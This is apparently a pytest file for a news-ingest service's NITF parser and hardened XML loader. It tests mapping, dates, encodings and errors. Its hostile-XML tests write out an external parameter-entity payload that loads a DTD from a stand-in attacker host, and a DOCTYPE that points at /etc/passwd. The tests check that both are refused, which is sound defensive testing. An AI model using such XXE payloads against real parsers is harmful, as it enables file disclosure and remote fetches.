"""The NITF parser and the safe XML loader: error locations, hostile XML, encodings (goldens and
fuzzing: test_parser_contract.py)."""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from schemas.article import ArticleSubmission
from services.ingest.formats.errors import FormatError
from services.ingest.formats.items import ParsedItem, Withdrawal
from services.ingest.formats.nitf import feed_datetime, nitf_body, parse_nitf
from services.ingest.formats.safe_xml import parse_xml
from tests.formats_support import BILLION_LAUGHS, XXE

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "formats" / "nitf"
DOCUMENTS = sorted(FIXTURES.glob("*.xml"))
NITF_NS = "http://iptc.org/std/NITF/2006-10-18/"


def nitf(head: str = "", body_head: str = "", content: str = "<p>Text.</p>", attributes: str = "") -> bytes:
    """A small NITF document; the default one parses to an article."""
    head = head or '<docdata><doc-id id-string="t-1"/><date.issue norm="20250427T121827Z"/></docdata>'
    body_head = body_head or "<hedline><hl1>Tide tables reprinted</hl1></hedline>"
    return (
        f"<nitf{attributes}><head>{head}</head><body><body.head>{body_head}</body.head>"
        f"<body.content>{content}</body.content></body></nitf>"
    ).encode()


def only(items: list[ParsedItem]) -> ParsedItem:
    assert len(items) == 1
    return items[0]


# --- goldens -----------------------------------------------------------------------------------------


def test_there_is_a_fixture_for_each_case() -> None:
    assert {p.stem for p in DOCUMENTS} >= {"lighthouse_plain", "orchard_withheld", "quay_latin1_undeclared"}


def test_undeclared_latin1_nitf_is_guessed_and_said() -> None:
    data = (FIXTURES / "quay_latin1_undeclared.xml").read_bytes()
    article = only(parse_nitf(data))
    assert isinstance(article, ArticleSubmission)
    assert article.headline == "Guindastes elétricos chegam ao cais norte de São Brás"  # hl1, not <title>
    assert article.subheadline is None  # the hl2 only repeats hl1
    assert [(b.name, b.role) for b in article.bylines] == [
        ("INÊS MARLOW", "Correspondente da Agência do Cais")
    ]
    assert article.language == "pt-PT"  # baselang
    assert [w.code for w in article.warnings] == ["charset-guessed"]
    declared = only(parse_nitf(data, charset="iso-8859-1"))
    assert isinstance(declared, ArticleSubmission)
    assert declared.headline == article.headline
    assert declared.warnings == []


def test_namespaced_and_plain_markup_read_the_same() -> None:
    plain = (FIXTURES / "lighthouse_plain.xml").read_bytes()
    namespaced = plain.replace(b"<nitf version=", f'<nitf xmlns="{NITF_NS}" version='.encode())
    assert namespaced != plain
    assert parse_nitf(namespaced) == parse_nitf(plain)


def test_lighthouse_mapping_details() -> None:
    article = only(parse_nitf((FIXTURES / "lighthouse_plain.xml").read_bytes()))
    assert isinstance(article, ArticleSubmission)
    assert article.body[0].startswith("A lighthouse that stood dark")  # lede dateline cut off
    assert article.body_html is not None
    assert "\u2014" in article.body_html  # &mdash; from the (unloaded) DTD resolved
    for gone in ("script", "onclick", "alert", "lamp room before repairs"):
        assert gone not in article.body_html
    assert article.bylines[0].name == "Maren Tolliver"
    assert article.bylines[0].role == "Coastal Affairs Writer"
    assert article.revision == 2
    assert article.tags == ["lighthouses", "volunteers", "Heritage"]


def test_nitf_body_takes_nitf_body_or_body_content() -> None:
    root = parse_xml(nitf(content="<p>One.</p><block><p>Two &amp; <em>three</em>.</p></block>"), None)
    content = root.find("body/body.content")
    assert content is not None
    expected = (["One.", "Two & three."], "<p>One.</p>\n<p>Two &amp; <em>three</em>.</p>")
    assert nitf_body(root) == expected
    assert nitf_body(content) == expected


# --- mapping details -----------------------------------------------------------------------------


def test_byline_text_without_person_elements_is_split() -> None:
    article = only(
        parse_nitf(nitf(body_head="<hedline><hl1>H</hl1></hedline><byline>By Ana Ruiz and Bo Li</byline>"))
    )
    assert isinstance(article, ArticleSubmission)
    assert [(c.name, c.role) for c in article.bylines] == [("Ana Ruiz", "writer"), ("Bo Li", "writer")]


def test_title_is_the_headline_when_there_is_no_hl1() -> None:
    head = '<title>Ferry timetable changes</title><docdata><date.issue norm="20250427"/></docdata>'
    article = only(parse_nitf(nitf(head=head, body_head="<byline>By Ana Ruiz</byline>")))
    assert isinstance(article, ArticleSubmission)
    assert article.headline == "Ferry timetable changes"
    assert article.published_at == datetime(2025, 4, 27, tzinfo=ZoneInfo("UTC"))
    assert article.source.name == "NITF"


def test_kill_message_is_a_withdrawal() -> None:
    head = (
        '<docdata><doc-id id-string="k-9"/><date.issue norm="20250427T121827+0200"/>'
        '<ed-msg msg-type="kill" info="Kill this story."/></docdata><pubdata name="Quay Daily"/>'
    )
    withdrawal = only(parse_nitf(nitf(head=head)))
    assert withdrawal == Withdrawal(
        source="Quay Daily",
        headline="Tide tables reprinted",
        published_at=datetime(2025, 4, 27, 10, 18, 27, tzinfo=UTC),
        reason="ed-msg kill",
        feed_item_id="k-9",
        revision=1,
    )


def test_language_comes_from_xml_lang() -> None:
    article = only(parse_nitf(nitf(attributes=' xml:lang="pt_BR"')))
    assert isinstance(article, ArticleSubmission)
    assert article.language == "pt-BR"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("20250427T121827Z", datetime(2025, 4, 27, 12, 18, 27, tzinfo=UTC)),
        ("20250427T121827+0000", datetime(2025, 4, 27, 12, 18, 27, tzinfo=UTC)),
        ("20250427T141827+0200", datetime(2025, 4, 27, 12, 18, 27, tzinfo=UTC)),
        ("2025-04-27T12:18:27.5-03:30", datetime(2025, 4, 27, 15, 48, 27, 500000, tzinfo=UTC)),
        ("2025-04-27T12:18:27+05", datetime(2025, 4, 27, 7, 18, 27, tzinfo=UTC)),
        ("20250427", datetime(2025, 4, 26, 22, 0, tzinfo=UTC)),  # midnight in Berlin (CEST)
        ("2025-04-27T12:18:27", datetime(2025, 4, 27, 10, 18, 27, tzinfo=UTC)),
    ],
)
def test_feed_datetimes(value: str, expected: datetime) -> None:
    got = feed_datetime(value, ZoneInfo("Europe/Berlin"), "here")
    assert got.tzinfo is not None
    assert got == expected


def test_naive_offsets_and_zones_keep_their_offset() -> None:
    got = feed_datetime("20250427T121827-0500", ZoneInfo("UTC"), "here")
    assert got.utcoffset() == timezone(timedelta(hours=-5)).utcoffset(None)


@pytest.mark.parametrize("value", ["27/04/2025", "20251327", "20250427T251827Z", "20250427T121827+2500", ""])
def test_unreadable_datetimes_say_where(value: str) -> None:
    with pytest.raises(FormatError) as caught:
        feed_datetime(value, ZoneInfo("UTC"), "/nitf/head/docdata/date.issue/@norm")
    assert caught.value.location == "/nitf/head/docdata/date.issue/@norm"


# --- errors --------------------------------------------------------------------------------------


def test_broken_xml_raises_with_its_line() -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(b"<nitf>\n<head>\n<title>Open</head>\n</nitf>")
    assert caught.value.location == "line 3"
    assert caught.value.message.startswith("not well-formed XML")


@pytest.mark.parametrize("data", [b"", b"   ", b"not xml at all", b"\xff\xfe\x00"])
def test_unreadable_documents_raise(data: bytes) -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(data)
    assert caught.value.location is not None


def test_other_xml_is_not_nitf() -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(b"<rss><channel/></rss>")
    assert (caught.value.message, caught.value.location) == (
        "not a NITF document: the root element is <rss>",
        "document",
    )


def test_unknown_source_time_zone_is_a_settings_error() -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(nitf(), source_timezone="Mars/Olympus")
    assert caught.value.location == "settings"


def test_only_a_document_without_headline_and_text_is_refused() -> None:
    error = only(parse_nitf(nitf(body_head="<hedline/>", content='<media media-type="image"/>')))
    assert isinstance(error, FormatError)
    assert (error.message, error.location) == (
        "no headline and no body text: the document holds no article",
        "/nitf/body/body.head/hedline/hl1",
    )


# A secondary field that cannot be read is repaired, and the article says how (code, field).
@pytest.mark.parametrize(
    ("document", "said", "check"),
    [
        (
            nitf(body_head="<hedline><hl2>Only a deck</hl2></hedline>"),
            ("headline-missing", "headline"),
            ("headline", "Text."),
        ),
        (
            nitf(head='<docdata><date.issue norm="yesterday"/></docdata>'),
            ("date-unreadable", "published_at"),
            ("published_at", None),
        ),
        (
            nitf(head='<docdata><date.issue norm="20250101"/><du-key version="two"/></docdata>'),
            ("field-invalid", "revision"),
            ("revision", 1),
        ),
        (
            nitf(content='<media media-type="image"/>'),
            ("body-missing", "body"),
            ("body", ["Tide tables reprinted"]),
        ),
        (
            nitf(attributes=' xml:lang="English!"'),
            ("field-invalid", "language"),
            ("language", None),
        ),
    ],
)
def test_repairs_are_said(document: bytes, said: tuple[str, str], check: tuple[str, object]) -> None:
    article = only(parse_nitf(document))
    assert isinstance(article, ArticleSubmission)
    assert [(w.code, w.field) for w in article.warnings] == [said]
    assert getattr(article, check[0]) == check[1]


def test_no_date_at_all_is_left_to_ingest() -> None:
    article = only(parse_nitf(nitf(head="<docdata/>")))
    assert isinstance(article, ArticleSubmission)
    assert article.published_at is None  # ingest uses the time received and says so
    assert article.warnings == []


# --- hostile XML ---------------------------------------------------------------------------------


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_entity_declarations_are_refused_before_expansion(document: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(FormatError) as caught:
        parse_nitf(document)
    assert (caught.value.message, caught.value.location) == (
        "entity declarations are not allowed",
        "document",
    )
    assert "root:" not in str(caught.value)
    assert time.monotonic() - started < 1


def test_entity_declarations_in_utf16_are_refused_too() -> None:
    document = XXE.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    with pytest.raises(FormatError, match="entity declarations are not allowed"):
        parse_nitf(document)


def test_parameter_entities_are_refused() -> None:
    document = b'<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><nitf/>'
    with pytest.raises(FormatError, match="entity declarations are not allowed"):
        parse_nitf(document)


def test_a_doctype_without_declarations_is_read_without_loading_it() -> None:
    document = b'<!DOCTYPE nitf SYSTEM "file:///etc/passwd">' + nitf(content="<p>A&mdash;B &unknown; C</p>")
    article = only(parse_nitf(document))
    assert isinstance(article, ArticleSubmission)
    assert article.body == ["A\u2014B C"]


# --- encodings -----------------------------------------------------------------------------------


LATIN1 = (
    '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    '<nitf><head><docdata><date.issue norm="20250427"/></docdata></head>'
    "<body><body.head><hedline><hl1>Caf\u00e9 na pra\u00e7a reabre</hl1></hedline></body.head>"
    "<body.content><p>O caf\u00e9 da pra\u00e7a voltou, diz o dono \u00c1lvaro.</p></body.content>"
    "</body></nitf>"
).encode("iso-8859-1")


@pytest.mark.parametrize("charset", [None, "iso-8859-1", "utf-8"])
def test_latin1_document_with_a_declaration(charset: str | None) -> None:
    """The XML declaration wins over a Content-Type charset that disagrees with it."""
    article = only(parse_nitf(LATIN1, charset=charset))
    assert isinstance(article, ArticleSubmission)
    assert article.headline == "Caf\u00e9 na pra\u00e7a reabre"
    assert article.body == ["O caf\u00e9 da pra\u00e7a voltou, diz o dono \u00c1lvaro."]


def test_declared_charset_is_used_when_the_document_has_no_declaration() -> None:
    document = nitf(content="<p>Sm\u00f8rrebr\u00f8d</p>").decode().encode("iso-8859-1")
    article = only(parse_nitf(document, charset="ISO-8859-1"))
    assert isinstance(article, ArticleSubmission)
    assert article.body == ["Sm\u00f8rrebr\u00f8d"]


def test_windows_1252_sent_as_utf8_is_read_as_windows_1252() -> None:
    document = nitf(content="<p>\u201cQuoted\u201d</p>").decode().encode("cp1252")
    article = only(parse_nitf(document, charset="utf-8"))
    assert isinstance(article, ArticleSubmission)
    assert article.body == ["\u201cQuoted\u201d"]


def test_unknown_declared_charset_is_a_content_type_error() -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(nitf(), charset="klingon-8")
    assert caught.value.location == "Content-Type"


# --- fuzzing -------------------------------------------------------------------------------------
